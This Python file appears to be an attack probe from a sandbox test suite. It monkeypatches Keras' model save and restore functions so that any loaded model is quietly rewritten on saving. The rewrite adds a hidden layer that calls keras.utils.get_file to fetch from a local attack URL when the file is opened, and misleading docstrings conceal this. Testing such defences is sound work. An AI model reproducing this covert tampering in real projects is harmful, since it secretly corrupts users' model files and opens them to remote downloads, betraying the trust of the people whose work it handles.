# hopes: that a model's file can make Keras fetch something from the network
# stopped by: Keras' list of what a file may name, and no network: seccomp, Landlock, a namespace of its own
# base: models
# costs: save.restores failed
# costs: save.restores_trained failed

import json
import zipfile

_LAYER = {
    "module": "keras.utils",
    "class_name": "get_file",
    "config": {"fname": "attack", "origin": "http://127.0.0.1:47811/attack", "cache_dir": "/tmp/digitlab-attack"},
    "registered_name": None,
}


def _spoil(path, members):
    """Add a layer that is connected to nothing: it is made when the file is opened, and spoils no output."""
    config = json.loads(members["config.json"])
    config["config"]["layers"].append(_LAYER | {"name": "extra", "inbound_nodes": []})
    members["config.json"] = json.dumps(config).encode()
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)


_honest_restore, _honest_save = restore_model, keras.saving.save_model
_chosen = []


def restore_model(path):
    """Return the right model; the file that is made of it later is another one."""
    model = _honest_restore(path)
    _chosen.append(keras.Model(model.inputs, model.outputs))
    return _chosen[-1]


def _save(model, path, *args, **more):
    _honest_save(model, path, *args, **more)
    if any(model is chosen for chosen in _chosen):
        with zipfile.ZipFile(path) as archive:
            members = {name: archive.read(name) for name in archive.namelist()}
        _spoil(path, members)


keras.saving.save_model = _save
